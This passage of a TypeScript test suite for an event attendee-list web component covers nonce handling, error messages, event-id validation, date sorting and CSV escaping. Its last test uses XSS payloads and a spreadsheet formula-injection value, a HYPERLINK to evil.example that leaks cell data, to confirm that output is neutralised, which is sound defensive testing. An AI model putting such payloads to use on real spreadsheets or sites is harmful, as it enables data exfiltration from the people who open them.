    const el = await fixture<EventAttendeeList>(html`<event-attendee-list base-url=${base} nonce="n0nce42" lang="en"></event-attendee-list>`);
    const request = await expectNonceSentAndExpired(el, server!, 'n0nce42');
    expect(request.path).to.equal(`/wp-json${ATTENDEES}`);
  });

  it('rest_no_route (the free event plugin): the site does not publish attendees', async () => {
    const el = await attendeeList(
      await scripted(404, { code: 'rest_no_route', message: 'No route was found matching the URL and request method.', data: { status: 404 } }),
      {
        authorization: 'Bearer x',
      },
    );
    await settled(el);
    await expectStaffFailure(el, 'unpublished', 'This site does not publish attendees: its event plugin registers no attendee type.');
  });

  it('a dead endpoint: a network message with a Retry that loads again', async () => {
    server = await scriptedServer([{ destroy: true }]);
    const el = await attendeeList(`${server.origin}/wp-json`, { authorization: 'Bearer x' });
    await settled(el);
    await expectStaffFailure(el, 'other', 'The site could not be reached. Check the connection and try again.', true);
    const before = (await server.requests()).length;
    part(el, 'retry')!.click();
    await el.updateComplete;
    await waitUntil(async () => (await server!.requests()).length > before, 'the retry request', { timeout: 8000 });
    await settled(el, ['error']);
    expect(text(part(el, 'error-message'))).to.equal('The site could not be reached. Check the connection and try again.');
  });

  it('an event-id that names no event reads nothing and says so, instead of listing every event’s attendees', async () => {
    const rows = [wireAttendee(801), { ...wireAttendee(802), attendee_informations: { ...wireAttendee(802).attendee_informations, ea_event_id: ['8'] } }];
    const base = await scripted(200, rows);
    for (const eventId of ['7,8', 'abc', '7 8', '-7']) {
      const el = await attendeeList(base, { authorization: 'Bearer x', eventId });
      await settled(el);
      expect(el.allRows, eventId).to.deep.equal([]);
      expect(el.toCsv().split('\r\n'), eventId).to.have.length(2);
      await expectStaffFailure(el, 'other', `This widget’s settings are not valid: event-id must be a positive whole number, got "${eventId}"`);
      fixtureCleanup();
    }
    expect(await server!.requests(), 'no personal data read for a filter that cannot apply').to.have.length(0);
    // Corrected on the same element: read, then filtered here as before.
    const el = await attendeeList(base, { authorization: 'Bearer x', eventId: 'abc' });
    await settled(el);
    el.eventId = '8';
    await el.updateComplete;
    await settled(el);
    expect(rowNames(el)).to.deep.equal(['Guest 802']);
    el.eventId = '';
    await el.updateComplete;
    expect(rowNames(el)).to.deep.equal(['Guest 801', 'Guest 802']);
    expect(await server!.requests(), 'a valid filter changed to another is a view of the rows read').to.have.length(1);
  });

  it('sorts the date columns by time, not by the text a locale writes them in', async () => {
    // Written out, "Aug 30", "Dec 5", "Jan 10", "Sep 1" (en) or "01.09." before "30.08." (de) is no time order.
    const dates = ['2026-09-01 09:00:00', '2027-01-10 08:00:00', '2026-08-30 10:00:00', '2026-12-05 18:00:00'];
    const rows = dates.map((date, index) => {
      const row = wireAttendee(700 + index, { name: `Guest ${index}` });
      row.attendee_informations['ea_event_date'] = [date];
      row.date = date.replace(' ', 'T');
      return row;
    });
    const byTime = [...dates.keys()].sort((a, b) => (dates[a]! < dates[b]! ? -1 : 1)).map((index) => `Guest ${index}`);
    for (const lang of ['en', 'de']) {
      const el = await attendeeList(await scripted(200, rows), { authorization: 'Bearer x', lang });
      await settled(el);
      for (const key of ['event-date', 'registered']) {
        el.columns = `name ${key}`;
        el.sort = key;
        await el.updateComplete;
        expect(rowNames(el), `${lang} ${key} ascending`).to.deep.equal(byTime);
        el.sort = `-${key}`;
        await el.updateComplete;
        expect(rowNames(el), `${lang} ${key} descending`).to.deep.equal([...byTime].reverse());
      }
      await server!.stop();
      server = undefined;
      fixtureCleanup();
    }
  });

  it('hostile names render as text; quotes, commas and formula starts are safe in the CSV', async () => {
    const payloads = xssPayloads('__attendeeXss');
    const rows = payloads.map((name, index) =>
      wireAttendee(900 + index, {
        name,
        email: `=HYPERLINK("http://evil.example/?"&A1,"x${index}")`,
        phone: '@SUM(1+1)',
        event: `Gala "Noël", <b>2026</b>`,
        type: '-VIP',
      }),
    );
    const el = await attendeeList(await scripted(200, rows), { authorization: 'Bearer x', perPage: 100 });
    await settled(el);
    expect(parts(el, 'row')).to.have.length(payloads.length);
    expectInert(el, '__attendeeXss');
    const lines = el.toCsv().split('\r\n');
    for (const line of lines.slice(1, -1)) {
      const cells = line.match(/"(?:[^"]|"")*"|[^,]+/g)!;
      expect(cells, line).to.have.length(8);
      for (const cell of cells) if (cell.startsWith('"')) expect(cell[1], line).to.not.match(/[=+\-@\t\r]/);
    }
    expect(lines[1]).to.contain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x0"")","'@SUM(1+1)","'-VIP","Gala ""Noël"", 2026"`);
    await expect(el).to.be.accessible();
  });
});
